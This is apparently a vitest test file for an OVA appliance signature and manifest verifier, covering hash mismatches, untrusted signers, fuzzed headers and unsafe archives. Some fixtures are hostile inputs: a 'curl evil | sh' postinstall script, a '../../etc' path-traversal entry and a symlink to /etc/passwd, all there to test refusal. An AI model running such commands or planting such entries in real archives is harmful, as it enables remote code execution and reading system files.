import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { createHash, randomBytes } from 'node:crypto';
import { mkdir, mkdtemp, readFile, rm, symlink, truncate, writeFile, stat } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import fc from 'fast-check';
import { verifyFile } from '../../../main/verification/verify-file';
import { loadTrust, type TrustStore } from '../../../main/verification/trust';

/*
 * OVA appliances built the way vendors build them, with the real tools: GNU tar (ustar) for the archive and
 * OpenSSL for the manifest signature (`openssl dgst -sha256 -sign`, the procedure ovftool documents).
 */
const run = promisify(execFile);
let dir = '';
let trust: TrustStore;
const f = (...p: string[]) => path.join(dir, ...p);
const sha = (alg: string, b: Buffer | string) => createHash(alg).update(b).digest('hex');

const OVF = `<?xml version="1.0" encoding="UTF-8"?>\n<Envelope xmlns="http://schemas.dmtf.org/ovf/envelope/1"><References><File ovf:href="connector-disk1.vmdk" ovf:id="file1"/></References></Envelope>\n`;

/** Builds an appliance folder src/NAME with descriptor, disk, manifest and (optionally) certificate, then tars it. */
async function build(name: string, opts: { alg?: 'SHA1' | 'SHA256' | 'SHA512'; sign?: boolean; disk?: Buffer; tamperDisk?: boolean; extra?: string[] } = {}): Promise<string> {
  const src = f('src', name);
  await mkdir(src, { recursive: true });
  const disk = opts.disk ?? randomBytes(3 * 1024 * 1024 + 17);
  await writeFile(path.join(src, 'connector.ovf'), OVF);
  await writeFile(path.join(src, 'connector-disk1.vmdk'), disk);
  const alg = opts.alg ?? 'SHA256';
  const node = alg.toLowerCase();
  await writeFile(path.join(src, 'connector.mf'), `${alg}(connector.ovf)= ${sha(node, OVF)}\n${alg}(connector-disk1.vmdk)= ${sha(node, disk)}\n`);
  const members = ['connector.ovf', 'connector.mf'];
  if (opts.sign !== false) {
    await run('openssl', ['dgst', '-sha256', '-sign', f('pki', 'vendor.key'), '-out', path.join(src, 'mf.sig'), path.join(src, 'connector.mf')]);
    const sig = (await readFile(path.join(src, 'mf.sig'))).toString('hex');
    await writeFile(path.join(src, 'connector.cert'), `SHA256(connector.mf)= ${sig}\n${await readFile(f('pki', 'vendor.pem'), 'utf8')}`);
    members.push('connector.cert');
  }
  if (opts.tamperDisk) {
    disk[1000] = disk[1000]! ^ 1;
    await writeFile(path.join(src, 'connector-disk1.vmdk'), disk);
  }
  members.push('connector-disk1.vmdk', ...(opts.extra ?? []));
  const out = f(`${name}.ova`);
  await run('tar', ['--format=ustar', '-cf', out, '-C', src, ...members]);
  return out;
}

beforeAll(async () => {
  dir = await mkdtemp(path.join(os.tmpdir(), 'mwb-ova-'));
  await mkdir(f('pki'));
  await run('openssl', ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', f('pki', 'vendor.key'), '-out', f('pki', 'vendor.pem'), '-days', '365', '-subj', '/CN=Appliance Vendor Signing/O=Workbench Tests']);
  trust = await loadTrust({ trust: [f('pki', 'vendor.pem')] });
}, 60_000);
afterAll(async () => {
  if (dir) await rm(dir, { recursive: true, force: true });
});

describe('OVA verification (GNU tar + OpenSSL built appliances)', () => {
  it('a signed appliance whose files match its manifest is Valid', async () => {
    const r = await verifyFile(await build('good'), { trust });
    expect(r).toMatchObject({ kind: 'ova', status: 'Valid', ok: true, reasons: ['ok'], digestAlgorithm: 'sha256' });
    expect(r.signer?.subject).toContain('Appliance Vendor Signing');
    expect(r.details.join('\n')).toMatch(/2 file\(s\) match/);
  });

  it('SHA-1 and SHA-512 manifests are checked too', async () => {
    expect((await verifyFile(await build('sha1', { alg: 'SHA1' }), { trust })).status).toBe('Valid');
    expect((await verifyFile(await build('sha512', { alg: 'SHA512' }), { trust })).status).toBe('Valid');
  });

  it('a disk changed after the manifest was made is a HashMismatch naming the file', async () => {
    const r = await verifyFile(await build('tampered', { tamperDisk: true }), { trust });
    expect(r).toMatchObject({ status: 'HashMismatch', ok: false, reasons: ['manifest-mismatch'] });
    expect(r.details.join('\n')).toMatch(/"connector-disk1\.vmdk": sha256 is/);
  });

  it('an unknown vendor is not trusted; an unsigned appliance needs a checksum file', async () => {
    const good = await build('untrusted');
    expect(await verifyFile(good, { trust: { anchors: [], crls: [], publishers: [] } })).toMatchObject({ status: 'UnknownError', reasons: ['untrusted-root'] });
    const unsigned = await build('unsigned', { sign: false });
    expect(await verifyFile(unsigned, { trust })).toMatchObject({ status: 'NotSigned', ok: false, reasons: ['unsigned'] });
    await writeFile(`${unsigned}.sha256`, `${sha('sha256', await readFile(unsigned))}  unsigned.ova\n`);
    expect(await verifyFile(unsigned, { trust })).toMatchObject({ status: 'NotSigned', ok: true });
  });

  it('a file the manifest does not list is refused', async () => {
    await mkdir(f('src', 'extra'), { recursive: true });
    await writeFile(f('src', 'extra', 'postinstall.sh'), 'curl evil | sh\n');
    const r = await verifyFile(await build('extra', { extra: ['postinstall.sh'] }), { trust });
    expect(r.reasons).toContain('manifest-incomplete');
    expect(r.details.join('\n')).toMatch(/not in the manifest: postinstall\.sh/);
  });

  it('refuses path traversal, links and entries larger than the archive, reading nothing to disk', async () => {
    const src = f('src', 'evil');
    await mkdir(src, { recursive: true });
    await writeFile(path.join(src, 'connector.ovf'), OVF);
    await run('tar', ['--format=ustar', '-P', '-cf', f('traversal.ova'), '-C', src, '--transform', 's,^connector,../../etc/connector,', 'connector.ovf']);
    expect(await verifyFile(f('traversal.ova'), { trust })).toMatchObject({ status: 'UnknownError', ok: false, reasons: ['unsafe-archive-entry'] });
    await symlink('/etc/passwd', path.join(src, 'disk.vmdk'));
    await run('tar', ['--format=ustar', '-cf', f('link.ova'), '-C', src, 'connector.ovf', 'disk.vmdk']);
    const link = await verifyFile(f('link.ova'), { trust });
    expect(link.reasons).toEqual(['unsafe-archive-entry']);
    expect(link.details.join('\n')).toMatch(/symbolic link to "\/etc\/passwd"/);
    const cut = await build('truncated');
    await truncate(cut, (await stat(cut)).size - 1024 * 1024 - 4096);
    expect((await verifyFile(cut, { trust })).reasons).toEqual(['oversized-entry']);
    await writeFile(f('text.ova'), 'just text, not a tar archive '.repeat(100));
    const text = await verifyFile(f('text.ova'), { trust });
    expect(text).toMatchObject({ status: 'NotSupportedFileFormat', reasons: ['bad-archive'] });
    // The detail names the field; it never quotes the file's bytes back.
    expect(text.details.join('\n')).toMatch(/not a tar \(OVA\) archive/);
    const phrase = 'just text, not a tar archive ';
    for (let i = 0; i + 6 <= phrase.length; i++) if (!'not a tar'.includes(phrase.slice(i, i + 6))) expect(text.details.join('\n')).not.toContain(phrase.slice(i, i + 6));
  });

  it('mutated archive headers give reasons, never exceptions (fuzz)', async () => {
    const good = await readFile(await build('fuzz-seed', { disk: randomBytes(8192) }));
    let i = 0;
    await fc.assert(
      fc.asyncProperty(fc.array(fc.tuple(fc.nat(3 * 512 - 1), fc.integer({ min: 0, max: 255 })), { minLength: 1, maxLength: 8 }), async (flips) => {
        const b = Buffer.from(good);
        for (const [pos, v] of flips) b[pos] = v;
        const file = f(`fuzz-${i++}.ova`);
        await writeFile(file, b);
        const r = await verifyFile(file, { trust });
        expect(r.reasons.length).toBeGreaterThan(0);
        await rm(file);
      }),
      { numRuns: 150 },
    );
  }, 60_000);
});
